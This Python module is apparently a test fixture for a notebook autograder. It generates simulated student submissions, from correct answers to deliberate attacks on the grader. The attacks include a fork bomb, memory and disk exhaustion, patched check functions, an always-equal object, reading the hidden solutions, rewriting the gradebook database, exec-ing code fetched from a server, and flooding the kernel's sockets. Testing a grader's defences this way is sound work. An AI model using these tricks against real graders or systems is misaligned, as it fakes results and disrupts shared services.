"""What students hand in: good work, accidents, and attempts to get marks without it.

Each generator takes the released and the solved notebook and returns what the file holds, as text or bytes,
or None for no file. `EXPECTED` says which tasks it should pass.
"""

import copy
import json
import uuid

import nbformat
from nbformat.v4 import new_code_cell

MAKERS = {}
ALL, NONE = "all", "none"


def submission(passes, file="{id}/day1_exercises.ipynb", sandbox=None):
    """Register a maker; `passes` are the tasks it passes, in the sandbox those in `sandbox` where given."""

    def register(make):
        make.passes, make.file, make.sandbox = passes, file, passes if sandbox is None else sandbox
        MAKERS[make.__name__] = make
        return make

    return register


def cell(notebook, key):
    """The cell with that id."""
    return next(cell for cell in notebook.cells if cell.get("id") == key)


def solve(released, solved, *tasks):
    """The released notebook with the solutions of some tasks, or of all."""
    notebook = copy.deepcopy(released)
    for theirs in notebook.cells:
        task = theirs.id.removesuffix("-answer").replace("-", "_")
        if theirs.id.endswith("-answer") and (not tasks or task in tasks):
            theirs.source = cell(solved, theirs.id).source
    return notebook


def text(notebook):
    return nbformat.writes(notebook)


def with_answer(released, solved, source, key="gd-step-answer"):
    """All solved but one, whose cell holds `source`."""
    notebook = solve(released, solved)
    cell(notebook, key).source = source
    return text(notebook)


FIRST = "gd_step"
REST = "all but gd_step"


@submission(ALL)
def perfect(released, solved):
    return text(solve(released, solved))


@submission({"gd_step", "largest_stable_lr"})
def half(released, solved):
    return text(solve(released, solved, "gd_step", "largest_stable_lr"))


@submission(NONE)
def empty(released, solved):
    return text(released)


@submission(REST)
def syntax_error(released, solved):
    return with_answer(released, solved, "def gd_step(w, grad, lr)\n    return w - lr * grad")


@submission(REST)
def asks_before(released, solved):
    source = cell(solved, "gd-step-answer").source
    return with_answer(released, solved, 'name = input("Your name? ")\n' + source)


@submission(ALL)
def asks_afterwards(released, solved):
    source = cell(solved, "gd-step-answer").source
    return with_answer(released, solved, source + '\nlr = float(input("Which rate? "))')


@submission(REST)
def lacks_a_module(released, solved):
    source = cell(solved, "gd-step-answer").source
    return with_answer(released, solved, "import a_module_of_theirs\n" + source)


@submission(REST)
def infinite_loop(released, solved):
    return with_answer(released, solved, "def gd_step(w, grad, lr):\n    while True:\n        pass")


@submission(REST)
def loop_in_a_cell(released, solved):
    notebook = solve(released, solved)
    cell(notebook, "gd-step-answer").source = "while True:\n    pass"
    return text(notebook)


@submission(REST)
def loop_that_swallows_interrupts(released, solved):
    source = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass"""
    return with_answer(released, solved, source)


@submission(ALL)
def deleted_check(released, solved):
    notebook = solve(released, solved)
    notebook.cells = [cell for cell in notebook.cells if cell.id != "gd-step-check"]
    return text(notebook)


@submission(REST)
def deleted_answer_and_check(released, solved):
    notebook = solve(released, solved)
    notebook.cells = [c for c in notebook.cells if c.id not in ("gd-step-check", "gd-step-answer")]
    return text(notebook)


@submission(REST)
def edited_check(released, solved):
    notebook = solve(released, solved)
    cell(notebook, "gd-step-answer").source = "def gd_step(w, grad, lr):\n    return w"
    check = cell(notebook, "gd-step-check")
    check.source = 'print("passed")'
    check.metadata.nbgrader.points = 100
    return text(notebook)


@submission(ALL, file="{id}/my final homework (3).ipynb")
def renamed_file(released, solved):
    return text(solve(released, solved))


@submission(ALL)
def prints_much(released, solved):
    source = 'def gd_step(w, grad, lr):\n    print("x" * 10**6)\n    return w - lr * grad'
    return with_answer(released, solved, source + '\n\nfor _ in range(100):\n    print("y" * 10**5)')


@submission(REST)
def exits(released, solved):
    source = "import os\n\ndef gd_step(w, grad, lr):\n    os._exit(0)\n\nos._exit(3)"
    return with_answer(released, solved, source)


@submission(REST)
def killed(released, solved):
    return with_answer(released, solved, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")


@submission(REST)
def takes_all_memory(released, solved):
    source = "hoard = []\nwhile True:\n    hoard.append(bytearray(10**7))"
    return with_answer(released, solved, source)


@submission(REST)
def takes_all_addresses(released, solved):
    return with_answer(released, solved, "hoard = []\nwhile True:\n    hoard.append(bytes(10**7))")


@submission(ALL)
def quits_at_the_end_of_a_cell(released, solved):
    source = cell(solved, "gd-step-answer").source
    return with_answer(released, solved, f"{source}\nquit()")


@submission(REST)
def leaves_what_ends_every_kernel(released, solved):
    source = cell(solved, "gd-step-answer").source
    bomb = "import asyncio\nloop = asyncio.get_event_loop()\nloop.call_soon(loop.stop)"
    return with_answer(released, solved, f"{bomb}\n{source}")


@submission(REST)
def leaves_threads(released, solved):
    return with_answer(
        released,
        solved,
        """\
import threading, time
threading.stack_size(32768)
try:
    while True:
        threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
        assert threading.active_count() < 1000
except (RuntimeError, AssertionError):
    pass
def gd_step(w, grad, lr):
    return w - lr * grad
""",
    )


@submission(NONE, file="{id}/report.pdf")
def no_notebook(released, solved):
    return b"%PDF-1.4"


@submission(NONE)
def not_json(released, solved):
    return "<html>The file was not found on this server.</html>"


@submission(NONE)
def json_of_another_kind(released, solved):
    return json.dumps({"cells": [{"cell_type": 7, "source": {"a": 1}, "metadata": 3}, "x", None]})


@submission(ALL)
def metadata_stripped(released, solved):
    notebook = solve(released, solved)
    for theirs in notebook.cells:
        theirs.metadata.clear()
        theirs.id = uuid.uuid5(uuid.NAMESPACE_DNS, theirs.id).hex[:8]
    notebook.metadata.clear()
    return text(notebook)


@submission(ALL)
def warns(released, solved):
    source = (
        "import warnings, sys\n\ndef gd_step(w, grad, lr):\n    warnings.warn('careful')\n"
        "    print('note', file=sys.stderr)\n    return w - lr * grad\n\nwarnings.warn('careful')"
    )
    return with_answer(released, solved, source)


@submission(ALL)
def copied_cell(released, solved):
    notebook = solve(released, solved)
    place = notebook.cells.index(cell(notebook, "gd-step-answer"))
    first_try = copy.deepcopy(notebook.cells[place])
    first_try.source = "def gd_step(w, grad, lr):\n    return w + lr * grad"
    first_try.id = "pasted"  # Jupyter gives a new id and keeps the metadata
    notebook.cells.insert(place, first_try)
    return text(notebook)


@submission(ALL, file="{id}/Copy of day1_exercises.ipynb")
def from_colab(released, solved):
    notebook = solve(released, solved)
    cells = []
    for theirs in notebook.cells:
        one = {"cell_type": theirs.cell_type, "source": theirs.source.splitlines(True)}
        one["metadata"] = {"id": uuid.uuid5(uuid.NAMESPACE_URL, theirs.id).hex[:12]}
        if theirs.cell_type == "code":
            one["metadata"] |= {"colab": {"base_uri": "https://localhost:8080/"}, "outputId": "f" * 36}
            one |= {"outputs": [], "execution_count": None}
        cells.append(one)
    colab = {"provenance": [], "toc_visible": True}
    metadata = {"colab": colab, "kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return json.dumps({"nbformat": 4, "nbformat_minor": 0, "metadata": metadata, "cells": cells})


@submission(ALL)
def through_jupytext(released, solved):
    jupytext = __import__("jupytext")
    script = jupytext.writes(solve(released, solved), fmt="py:percent")
    return text(jupytext.reads(script, fmt="py:percent"))


@submission(ALL)
def other_kernel(released, solved):
    notebook = solve(released, solved)
    notebook.metadata.kernelspec = {"name": "my-env", "display_name": "My env", "language": "python"}
    return text(notebook)


@submission(REST)
def answer_as_constant(released, solved):
    return with_answer(released, solved, "def gd_step(w, grad, lr):\n    return 0.5 * w")


@submission(REST)
def drops_asserts(released, solved):
    source = (
        "import ast, IPython\n\nclass Drop(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "IPython.get_ipython().ast_transformers.append(Drop())\n"
        "def gd_step(w, grad, lr):\n    return w"
    )
    return with_answer(released, solved, source)


@submission(REST)
def patches_check(released, solved):
    source = (
        "import hpcourse.checks, hpcourse.checks.remote as remote\n"
        "class Yes:\n    passed, score, status, mistake, message = True, 1.0, 'passed', None, ''\n"
        "hp.check = hpcourse.checks.check = lambda *a, **k: Yes()\n"
        "remote.conclude = lambda *a, **k: Yes()\n"
        'remote.observe = lambda *a, **k: \'{"status": "passed"}\'\n'
        "hpcourse.checks.Result.passed = True\n"
        "def gd_step(w, grad, lr):\n    return w"
    )
    notebook = solve(released, solved, "gd_step")
    cell(notebook, "gd-step-answer").source = source
    return text(notebook)


patches_check.passes = patches_check.sandbox = NONE


@submission(NONE)
def always_equal(released, solved):
    """Whatever it is compared with, it says yes."""
    source = (
        "import numpy as np, builtins\n"
        "class Same:\n    __eq__ = lambda s, o: True\n    __float__ = lambda s: 1.0\n"
        "    __array__ = lambda s, *a, **k: np.zeros(3)\n"
        "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n"
        "builtins.AssertionError = Warning\n"
    )
    notebook = copy.deepcopy(released)
    for theirs in notebook.cells:
        if theirs.id.endswith("-answer"):
            name = theirs.id.removesuffix("-answer").replace("-", "_")
            theirs.source = source + f"{name} = lambda *a, **k: Same()"
    return text(notebook)


SOLVED = """
import json, pathlib, os, re, hpcourse
def solution(key):
    for root in {roots}:
        for path in sorted(pathlib.Path(root).rglob("day1_exercises.ipynb")):
            for cell in json.loads(path.read_text())["cells"]:
                source = "".join(cell["source"])
                if cell.get("id") == key and "..." not in source and "return" in source:
                    return source
exec(solution("gd-step-answer"))
"""


@submission(ALL, sandbox=REST)
def reads_the_source_folder(released, solved):
    return with_answer(released, solved, SOLVED.format(roots='["{course}/source"]'))


@submission(ALL, sandbox=REST)
def reads_the_package(released, solved):
    roots = "[os.path.dirname(hpcourse.__file__), os.path.dirname(os.path.dirname(hpcourse.__file__))]"
    return with_answer(released, solved, SOLVED.format(roots=roots))


@submission(ALL, sandbox=ALL)
def opens_the_gradebook(released, solved):
    source = (
        "import sqlite3\n"
        "book = sqlite3.connect('{course}/gradebook.db')\n"
        "book.execute('update grade set manual_score = 100')\nbook.commit()"
    )
    notebook = solve(released, solved)
    notebook.cells.append(new_code_cell(source))
    return text(notebook)


@submission(ALL, sandbox=REST)
def asks_the_network(released, solved):
    source = "import urllib.request\nexec(urllib.request.urlopen('{server}', timeout=3).read().decode())"
    return with_answer(released, solved, source)


@submission(REST)
def fork_bomb(released, solved):
    return with_answer(released, solved, "import os\nwhile True:\n    os.fork()")


@submission(REST)
def writes_much(released, solved):
    source = (
        "def fill():\n    for number in range(10**6):\n"
        "        with open(f'big{number}', 'wb') as file:\n            file.write(bytes(6 * 10**7))\n\nfill()"
    )
    return with_answer(released, solved, source)


@submission(REST)
def floods_displays(released, solved):
    source = (
        "from IPython.display import display\n"
        "for i in range(10**6):\n    display({'text/html': 'x' * 1000}, raw=True)"
    )
    return with_answer(released, solved, source)


@submission(ALL)
def prints_halves_of_characters(released, solved):
    """Lone surrogates, which no file can hold."""
    source = "def gd_step(w, grad, lr):\n    print('\\ud800')\n    return w - lr * grad\n\nprint('\\udcff')"
    notebook = solve(released, solved)
    cell(notebook, "gd-step-answer").source = source
    notebook.cells.append(new_code_cell("raise ValueError('\\ud800')"))
    return text(notebook)


@submission(REST)
def writes_over_the_verdict(released, solved):
    """Displays something while it is judged, and changes it by its display id in a later cell."""
    source = """
from IPython.display import publish_display_data
import hpcourse.checks.remote as remote

def show(data, **more):
    for number in range(3):
        publish_display_data(data, transient={"display_id": f"mine{number}"}, **more)

observe = remote.observe
def displaying(*a, **k):
    show({"text/plain": "mine"})
    return observe(*a, **k)
remote.observe = displaying
get_ipython().events.register("pre_run_cell", lambda *_: show(
    {"text/plain": "999", "text/html": "<h1>999 points</h1>"}, update=True))

def gd_step(w, grad, lr):
    return w
"""
    return with_answer(released, solved, source)


@submission(REST)
def writes_into_every_descriptor(released, solved):
    """The kernel's own sockets are among them: it hears nothing any more."""
    source = (
        "import os\nfor fd in range(3, 64):\n    try:\n"
        "        os.write(fd, b'{\"passed\": true}\\n' * 50)\n    except OSError:\n        pass\n"
        "def gd_step(w, grad, lr):\n    return w"
    )
    return with_answer(released, solved, source)


@submission(REST)
def lies_about_its_results(released, solved):
    """Sends nonsense where the grader expects what the answer gave."""
    source = (
        "import hpcourse.checks.remote as remote\n"
        "texts = iter(['', '[' * 100000, '{\"ending\": NaN}', '{\"told\": 1e999}', '7', '\"x\"'] * 9)\n"
        "remote.observe = lambda *a, **k: next(texts)\n"
        "def gd_step(w, grad, lr):\n    return w - lr * grad"
    )
    return with_answer(released, solved, source)


lies_about_its_results.passes = lies_about_its_results.sandbox = NONE


def tasks_passed(maker, tasks, sandbox):
    """The tasks that a submission should pass."""
    passes = maker.sandbox if sandbox else maker.passes
    return (
        {ALL: set(tasks), NONE: set(), REST: set(tasks) - {FIRST}}.get(passes, passes)
        if isinstance(passes, str)
        else passes
    )


def write_drop(folder, released, solved, course, server, names=None):
    """Write everything into a folder, one folder a student, and return {student: maker}."""
    students = {}
    for number, name in enumerate(names or MAKERS, start=1):
        maker = MAKERS[name]
        content = maker(copy.deepcopy(released), copy.deepcopy(solved))
        student = f"s{number:02}-{name}"
        students[student] = maker
        if content is None:
            continue
        path = folder / maker.file.format(id=student)
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            content = content.replace("{course}", str(course)).replace("{server}", server).encode()
        path.write_bytes(content)
    return students
